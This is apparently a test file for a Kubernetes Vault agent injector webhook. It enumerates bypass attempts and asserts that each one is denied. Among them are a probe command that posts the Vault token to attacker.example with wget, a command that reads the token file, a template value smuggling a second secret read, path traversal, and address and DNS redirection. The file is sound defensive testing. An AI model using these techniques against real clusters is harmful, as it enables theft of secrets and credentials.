// Each way an app team could get around an enforce policy that pins roles,
// secret paths, auth paths, the Vault address, the Vault namespace and the
// agent image (issue 13, and more found while fixing it): every one is denied,
// with the same decision and reason from the webhook, inject, explain and test.
import t from 'tap'
import type { JsonObject } from '../../src/engine/types.ts'
import { everyEntryPoint } from '../helpers/entry-points.ts'
import { PATCHES_ALLOWED, PINS } from '../helpers/policies.ts'
import { agentConfigOf, annotatedPod } from '../helpers/pods.ts'

const V = 'vault.hashicorp.com/'
const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64')
const patch = (ops: unknown[]): string => JSON.stringify(ops)
const forbiddenConfig = { auto_auth: { method: { type: 'kubernetes', mount_path: 'auth/kubernetes', config: { role: 'admin', token_path: '/var/run/secrets/kubernetes.io/serviceaccount/token' } }, sink: [{ type: 'file', config: { path: '/home/vault/.vault-token' } }] }, exit_after_auth: false, pid_file: '/home/vault/.pid', vault: { address: 'https://a.vault.corp.example.com:8200' } }

interface Attack {
  name: string
  annotations?: Record<string, string>
  spec?: Record<string, unknown>
  policy?: string
  denied: RegExp
}

const SECRET = { [`${V}agent-inject-secret-db`]: 'secret/data/team-a/db' }
const attacks: Attack[] = [
  { name: 'json-patch replaces the agent args', annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/args/0', value: 'vault agent -config=/tmp/mine.hcl' }]) }, denied: /escape hatch agent-json-patch: .*cannot be judged: vault-agent: args differs/ },
  { name: 'json-patch replaces VAULT_CONFIG (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/env/-', value: { name: 'VAULT_CONFIG', value: b64(forbiddenConfig) } }]) }, denied: /Vault role "admin" is not allowed/ },
  { name: 'json-patch replaces the image (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/image', value: 'evil.example/vault:1' }]) }, denied: /agent image "evil.example\/vault:1" \(vault-agent\) is not allowed/ },
  { name: 'json-patch makes the agent privileged root (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/securityContext', value: { privileged: true, runAsUser: 0 } }]) }, denied: /vault-agent: the agent's securityContext must be restricted, but it runs as root \(runAsUser 0\), is privileged/ },
  { name: 'json-patch drops the limits (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/resources', value: {} }]) }, denied: /limits must be set .*missing on vault-agent\)/ },
  { name: 'init json-patch points VAULT_ADDR elsewhere (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-init-json-patch`]: patch([{ op: 'add', path: '/env/-', value: { name: 'VAULT_ADDR', value: 'https://attacker.example' } }]) }, denied: /Vault address "https:\/\/attacker.example" is not allowed/ },
  { name: 'json-patch brings env from a ConfigMap (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/envFrom', value: [{ configMapRef: { name: 'mine' } }] }]) }, denied: /cannot be judged: vault-agent: envFrom differs/ },
  { name: 'json-patch runs a command in a probe (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/livenessProbe', value: { exec: { command: ['sh', '-c', 'wget --post-file=/home/vault/.vault-token https://attacker.example'] } } }]) }, denied: /cannot be judged: vault-agent: livenessProbe differs/ },
  { name: 'json-patch mounts over the agent binary (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/volumeMounts/-', value: { name: 'vault-secrets', mountPath: '/bin' } }]) }, denied: /a volume is mounted at \/bin/ },
  { name: 'json-patch renames the agent, which would then run unjudged (patches allowed)', policy: PATCHES_ALLOWED, annotations: { [`${V}agent-json-patch`]: patch([{ op: 'replace', path: '/name', value: 'helper' }, { op: 'add', path: '/env/-', value: { name: 'VAULT_CONFIG', value: b64(forbiddenConfig) } }]) }, denied: /cannot be judged: vault-agent was renamed or removed/ },
  { name: 'agent-configmap', annotations: { [`${V}agent-configmap`]: 'my-agent-config' }, denied: /escape hatch agent-configmap/ },
  { name: 'a raw-string template path', annotations: { [`${V}agent-inject-template-x`]: '{{ with secret `secret/data/team-b/x` }}{{ .Data.data }}{{ end }}' }, denied: /secret path "secret\/data\/team-b\/x" \(rendered to \/vault\/secrets\/x\) is not allowed/ },
  { name: 'a path built with printf', annotations: { [`${V}agent-inject-template-x`]: '{{ with secret (printf "secret/data/%s/x" "team-b") }}{{ end }}' }, denied: /escape hatch dynamic-templates: .*\/vault\/secrets\/x \(`secret` reads a path that is not a string literal\)/ },
  { name: 'a path in a template variable', annotations: { [`${V}agent-inject-template-x`]: '{{ $p := "secret/data/team-b/x" }}{{ with secret $p }}{{ end }}' }, denied: /escape hatch dynamic-templates/ },
  { name: 'the secrets list function', annotations: { [`${V}agent-inject-template-x`]: '{{ range secrets "secret/metadata/" }}{{ with secret (printf "secret/data/%s" .) }}{{ end }}{{ end }}' }, denied: /lists Vault paths with `secrets`/ },
  { name: 'pkiCert on another PKI role', annotations: { [`${V}agent-inject-template-cert`]: '{{ with pkiCert "pki/issue/team-b" "common_name=a.example" }}{{ .Cert }}{{ end }}' }, denied: /secret path "pki\/issue\/team-b"/ },
  { name: 'a template file', annotations: { ...SECRET, [`${V}agent-inject-template-file-db`]: '/vault/custom/db.tpl', [`${V}agent-extra-secret`]: 'templates' }, denied: /escape hatch agent-inject-template-file/ },
  { name: 'a piped path', annotations: { [`${V}agent-inject-template-x`]: '{{ with "secret/data/team-b/x" | secret }}{{ end }}' }, denied: /secret path "secret\/data\/team-b\/x"/ },
  { name: 'a path with an escape', annotations: { [`${V}agent-inject-template-x`]: '{{ with secret "secret/data/\\x74eam-b/x" }}{{ end }}' }, denied: /secret path "secret\/data\/team-b\/x"/ },
  { name: 'a second read smuggled into the default template', annotations: { [`${V}agent-inject-secret-x`]: 'secret/data/team-a/x" }}{{ end }}{{ with secret "secret/data/team-b/y' }, denied: /secret path "secret\/data\/team-b\/y"/ },
  { name: 'dot segments climb out of the allowed prefix', annotations: { [`${V}agent-inject-secret-x`]: 'secret/data/team-a/../team-b/x' }, denied: /is refused: it has an empty, . or .. segment/ },
  { name: 'userinfo in the Vault address', annotations: { ...SECRET, [`${V}service`]: 'https://vault-dr.corp.example.com:8443@attacker.example' }, denied: /Vault address .* is refused: it carries userinfo/ },
  { name: 'a query in the Vault address', annotations: { ...SECRET, [`${V}service`]: 'https://attacker.example?.vault.corp.example.com:8200' }, denied: /is refused: it carries a query/ },
  { name: 'another Vault namespace', annotations: { ...SECRET, [`${V}namespace`]: 'team-b' }, denied: /Vault namespace "team-b" is not allowed/ },
  { name: 'another agent image', annotations: { ...SECRET, [`${V}agent-image`]: 'evil.example/vault:1' }, denied: /agent image "evil.example\/vault:1"/ },
  { name: 'another auth path', annotations: { ...SECRET, [`${V}auth-path`]: 'auth/other-cluster' }, denied: /auth path "auth\/other-cluster" is not allowed/ },
  { name: 'a root agent', annotations: { ...SECRET, [`${V}agent-run-as-user`]: '0' }, denied: /runs as root \(runAsUser 0\)/ },
  { name: 'no securityContext', annotations: { ...SECRET, [`${V}agent-set-security-context`]: 'false' }, denied: /may run as root/ },
  { name: 'no limits', annotations: { ...SECRET, [`${V}agent-limits-cpu`]: '' }, denied: /limits must be set/ },
  { name: 'tls-skip-verify', annotations: { ...SECRET, [`${V}tls-skip-verify`]: 'true' }, denied: /tls-skip-verify must not be true/ },
  { name: 'a command run inside the agent', annotations: { ...SECRET, [`${V}agent-inject-command-db`]: 'cat /home/vault/.vault-token' }, denied: /escape hatch agent-inject-command/ },
  { name: 'the Vault token handed to the app', annotations: { ...SECRET, [`${V}agent-inject-token`]: 'true' }, denied: /escape hatch agent-inject-token/ },
  { name: 'a listener lending the token', annotations: { ...SECRET, [`${V}agent-cache-enable`]: 'true' }, denied: /escape hatch agent-cache-enable/ },
  { name: 'a proxy of the pod\'s choosing', annotations: { ...SECRET, [`${V}proxy-address`]: 'http://proxy.team-a.svc:3128' }, denied: /escape hatch proxy-address/ },
  { name: 'a CA of the pod\'s choosing', annotations: { ...SECRET, [`${V}ca-cert`]: '/vault/custom/ca.crt' }, denied: /escape hatch ca-cert/ },
  { name: 'another token to log in with', annotations: { ...SECRET, [`${V}auth-config-token-path`]: '/vault/custom/other-token' }, denied: /escape hatch auth-config: vault.hashicorp.com\/auth-config-token-path/ },
  { name: 'hostAliases redirect the pinned host', annotations: SECRET, spec: { hostAliases: [{ ip: '192.0.2.66', hostnames: ['a.vault.corp.example.com'] }] }, denied: /escape hatch host-aliases/ },
  { name: 'DNS of the pod\'s choosing', annotations: SECRET, spec: { dnsPolicy: 'None', dnsConfig: { nameservers: ['192.0.2.53'] } }, denied: /escape hatch dns-config/ },
  { name: 'search domains of the pod\'s choosing', annotations: SECRET, spec: { dnsConfig: { searches: ['attacker.example'], options: [{ name: 'ndots', value: '9' }] } }, denied: /escape hatch dns-config/ },
  { name: 'a shared process namespace', annotations: { ...SECRET, [`${V}agent-share-process-namespace`]: 'true' }, denied: /escape hatch share-process-namespace/ },
  { name: 'the host\'s process namespace', annotations: SECRET, spec: { hostPID: true }, denied: /escape hatch share-process-namespace/ },
  { name: 'a rendered file over the agent\'s trust store', annotations: { [`${V}agent-inject-template-ca.pem`]: '-----BEGIN CERTIFICATE-----\nMIIB…\n-----END CERTIFICATE-----\n', [`${V}secret-volume-path-ca.pem`]: '/etc/ssl/certs' }, denied: /a volume is mounted at \/etc\/ssl\/certs, over the agent's program or trust store/ },
  { name: 'copied mounts over the agent\'s program', annotations: { ...SECRET, [`${V}agent-copy-volume-mounts`]: 'app' }, spec: { volumes: [{ name: 'tools', emptyDir: {} }], containers: [{ name: 'app', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'tools', mountPath: '/usr/local/bin' }] }] }, denied: /a volume is mounted at \/usr\/local\/bin/ },
  { name: 'dot segments in the auth path', annotations: { ...SECRET, [`${V}auth-path`]: 'auth/kubernetes/../approle' }, denied: /auth path .* is refused: it has an empty, . or .. segment/ },
  // The agents' volumes are named; an app container can mount one by name (the API server checks the name only
  // after the webhook has added the volume): the agents' home holds their Vault token, the token volume their
  // service-account token for Vault, with which the app can log in as the role itself.
  { name: 'an app container mounts the agents\' home, where their Vault token is', annotations: SECRET, spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'home-sidecar', mountPath: '/agent-home', readOnly: true }] }] }, denied: /escape hatch agent-inject-token: container app mounts home-sidecar/ },
  { name: 'an init container mounts the init agent\'s home', annotations: SECRET, spec: { initContainers: [{ name: 'setup', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'home-init', mountPath: '/agent-home', subPath: '.vault-token' }] }] }, denied: /escape hatch agent-inject-token: container setup mounts home-init/ },
  { name: 'an app container mounts the agents\' own service-account token for Vault', annotations: { ...SECRET, 'vault-injector.dev/token-audience': 'vault' }, spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'vault-agent-token', mountPath: '/agent-token' }] }] }, denied: /escape hatch agent-inject-token: container app mounts vault-agent-token/ },
  // The agents' token is special only by its audience: a pod that projects a token of that audience for the app
  // (its own volume, any name, among other sources) gives the app the agents' login.
  { name: 'the app gets its own projected token with the agents\' audience', annotations: { ...SECRET, 'vault-injector.dev/token-audience': 'vault' }, spec: { automountServiceAccountToken: false, volumes: [{ name: 'my-token', projected: { sources: [{ configMap: { name: 'x' } }, { serviceAccountToken: { audience: 'vault', path: 't' } }] } }], containers: [{ name: 'app', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'my-token', mountPath: '/var/run/my-token' }] }] }, denied: /escape hatch agent-inject-token: container app mounts my-token \(a token for audience vault, the agents' own\)/ },
  // The API server refuses two mounts at the same path in a container by comparing the strings: "/home/vault/"
  // passes beside the agent's "/home/vault", and the runtime (which cleans both) mounts the later one over the
  // agent's home, so the agent writes its Vault token into a volume the app mounts.
  { name: 'a rendered secret\'s folder over the agent\'s home (trailing slash)', annotations: { ...SECRET, [`${V}secret-volume-path-db`]: '/home/vault/' }, denied: /cannot be judged: vault-agent(-init)?: a volume is mounted at \/home\/vault\/, over the agent's home, where it writes its Vault token/ },
  { name: 'copied mounts over the agent\'s home (trailing slash)', annotations: { ...SECRET, [`${V}agent-copy-volume-mounts`]: 'app' }, spec: { volumes: [{ name: 'shared', emptyDir: {} }], containers: [{ name: 'app', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'shared', mountPath: '/home/vault/' }] }] }, denied: /cannot be judged: vault-agent(-init)?: a volume is mounted at \/home\/vault\/, over the agent's home/ },
  { name: 'a rendered secret\'s folder over the folder of the agent\'s home', annotations: { ...SECRET, [`${V}secret-volume-path`]: '/home' }, denied: /cannot be judged: vault-agent(-init)?: a volume is mounted at \/home, over the agent's home/ },
  { name: 'dot segments in the Vault namespace', annotations: { ...SECRET, [`${V}namespace`]: 'team-a/../team-b' }, denied: /Vault namespace .* is refused/ },
]

function podFor(a: Pick<Attack, 'annotations' | 'spec'>): JsonObject {
  return annotatedPod(a.annotations ?? {}, a.spec ?? {})
}

function agree(t: { same(a: unknown, b: unknown, m: string): void }, seen: ReturnType<typeof everyEntryPoint>, what: string): void {
  t.same(seen.inject, seen.webhook, `${what}: inject decides as the webhook`)
  t.same(seen.explain, seen.webhook, `${what}: explain decides as the webhook`)
  t.same(seen.test, seen.webhook, `${what}: test decides as the webhook`)
}

t.test('the pinned policy admits a pod within its pins', async (t) => {
  const seen = everyEntryPoint(podFor({ annotations: SECRET }), PINS)
  t.equal(seen.webhook.decision, 'inject')
  agree(t, seen, 'within pins')
  const harmless = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}agent-json-patch`]: patch([{ op: 'add', path: '/env/-', value: { name: 'TZ', value: 'UTC' } }, { op: 'replace', path: '/resources/limits/memory', value: '64Mi' }]) } }), PATCHES_ALLOWED)
  t.equal(harmless.webhook.decision, 'inject', harmless.webhook.reason || 'a harmless patch, allowed by name, passes')
  agree(t, harmless, 'harmless patch')
  // A token for another audience (the app's own API, say) is no Vault login for the agents' role.
  const otherAudience = everyEntryPoint(podFor({ annotations: { ...SECRET, 'vault-injector.dev/token-audience': 'vault' }, spec: { volumes: [{ name: 'api-token', projected: { sources: [{ serviceAccountToken: { audience: 'payments-api', path: 't' } }] } }], containers: [{ name: 'app', image: 'registry.example.com/app:1.0', volumeMounts: [{ name: 'api-token', mountPath: '/var/run/api-token' }] }] } }), PINS)
  t.equal(otherAudience.webhook.decision, 'inject', otherAudience.webhook.reason || 'a projected token for another audience passes')
  agree(t, otherAudience, 'another audience')
})

for (const attack of attacks) {
  t.test(`bypass: ${attack.name}`, async (t) => {
    const seen = everyEntryPoint(podFor(attack), attack.policy ?? PINS)
    t.equal(seen.webhook.decision, 'deny', 'denied')
    t.match(seen.webhook.reason, attack.denied)
    agree(t, seen, attack.name)
  })
}

t.test('bypass: auth-config-role beside an allowed role never logs in with the forbidden role', async (t) => {
  const seen = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}auth-config-role`]: 'admin' } }), PINS)
  agree(t, seen, 'auth-config-role')
  if (seen.webhook.decision === 'deny') t.match(seen.webhook.reason, /Vault role "admin" is not allowed/)
  else {
    t.equal(agentConfigOf(seen.patched!).auto_auth.method.config.role, 'app', 'admitted only when the agent logs in as the allowed role')
    t.equal(agentConfigOf(seen.patched!, 'vault-agent-init').auto_auth.method.config.role, 'app')
  }
})

t.test('bypass: a pod that claims to be injected and brings its own agent', async (t) => {
  const pod = podFor({ annotations: { ...SECRET, [`${V}agent-inject-status`]: 'injected' } }) as any
  pod.spec.containers.push({ name: 'vault-agent', image: 'hashicorp/vault:2.0.4', command: ['/bin/sh', '-ec'], args: ['echo ${VAULT_CONFIG?} | base64 -d > /home/vault/config.json && vault agent -config=/home/vault/config.json'], env: [{ name: 'VAULT_CONFIG', value: b64(forbiddenConfig) }], resources: { limits: { cpu: '500m', memory: '128Mi' } }, securityContext: { runAsUser: 100, runAsNonRoot: true, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] } } })
  const seen = everyEntryPoint(pod, PINS)
  t.equal(seen.webhook.decision, 'deny')
  t.match(seen.webhook.reason, /Vault role "admin" is not allowed/)
  agree(t, seen, 'spoofed agent')
})

t.test('a pod injected before (offline, or a reinvocation) is judged on its agents and passes again', async (t) => {
  const first = everyEntryPoint(podFor({ annotations: SECRET }), PINS)
  const again = everyEntryPoint(first.patched!, PINS)
  t.equal(again.webhook.decision, 'skip', again.webhook.reason || 'already injected, nothing to add')
  agree(t, again, 'reinvocation')
})

t.test('the review command answers a bypass as the webhook does', async (t) => {
  const { spawnSync } = await import('node:child_process')
  const { join } = await import('node:path')
  const { admit } = await import('../../src/webhook/admission.ts')
  const { parsePolicy } = await import('../../src/policy/load.ts')
  const { defaultSettings } = await import('../../src/settings.ts')
  const attack = attacks.find((a) => a.name === 'userinfo in the Vault address')!
  const review = { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', request: { uid: 'u', kind: { group: '', version: 'v1', kind: 'Pod' }, namespace: 'team-a', operation: 'CREATE', object: podFor(attack) } }
  const dir = t.testdir({ 'policy.yaml': PINS, 'review.json': JSON.stringify(review) })
  const root = new URL('../../', import.meta.url).pathname
  const r = spawnSync(process.execPath, [join(root, 'bin/vault-injector.js'), 'review', '-f', join(dir, 'review.json'), '--policy', join(dir, 'policy.yaml')], { encoding: 'utf8', cwd: root })
  t.equal(r.status, 0, r.stderr)
  const answer = JSON.parse(r.stdout).response
  t.equal(answer.allowed, false)
  t.match(answer.status.message, attack.denied)
  t.same(answer, admit(review, { settings: defaultSettings(), policy: parsePolicy(PINS, 'p') }).body.response, 'the same answer as the webhook')
})

// The platform pins the CA file (a policy default of ca-cert under /vault/tls or /vault/custom) and the Secret
// it comes from; a pod that names its own tls-secret or agent-extra-secret picks the CA the agent trusts as
// Vault's, which is what the ca-cert escape hatch guards.
const PLATFORM_CA = (key: string, dir: string): string => PINS.replace('defaults:\n', `defaults:\n        ${V}ca-cert: ${dir}/ca.crt\n        ${V}${key}: vault-ca\n`)
for (const [key, dir] of [['tls-secret', '/vault/tls'], ['agent-extra-secret', '/vault/custom']] as const) {
  t.test(`bypass: the pod's own ${key} under the platform's ca-cert (${dir}/ca.crt) picks the CA the agent trusts`, async (t) => {
    const platform = everyEntryPoint(podFor({ annotations: SECRET }), PLATFORM_CA(key, dir))
    t.equal(platform.webhook.decision, 'inject', platform.webhook.reason || 'the platform\'s own CA Secret passes')
    const seen = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}${key}`]: 'my-ca' } }), PLATFORM_CA(key, dir))
    t.equal(seen.webhook.decision, 'deny')
    t.match(seen.webhook.reason, new RegExp(`escape hatch ca-cert: vault.hashicorp.com/${key} picks the Secret of ${dir}/ca.crt`))
    agree(t, seen, key)
    const allowed = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}${key}`]: 'my-ca' } }), PLATFORM_CA(key, dir).replace('agentImages: ["hashicorp/vault:*"]', 'agentImages: ["hashicorp/vault:*"]\n        escapeHatches: [ca-cert]'))
    t.equal(allowed.webhook.decision, 'inject', allowed.webhook.reason || 'allowed by a rule that lists ca-cert')
  })
}

t.test('bypass: agent-enable-quit never lends the token unnoticed', async (t) => {
  const seen = everyEntryPoint(podFor({ annotations: { ...SECRET, [`${V}agent-enable-quit`]: 'true' } }), PINS)
  agree(t, seen, 'enable-quit')
  if (seen.webhook.decision === 'deny') t.match(seen.webhook.reason, /escape hatch agent-cache-enable: vault.hashicorp.com\/agent-enable-quit/)
  else {
    // Admitted only when no agent's listener adds the agent's token to requests.
    for (const name of ['vault-agent', 'vault-agent-init']) {
      const config = agentConfigOf(seen.patched!, name)
      t.ok(!config.listener || config.cache?.use_auto_auth_token === false || config.cache?.use_auto_auth_token === 'false' || !config.cache, `${name} lends no token`)
    }
  }
})
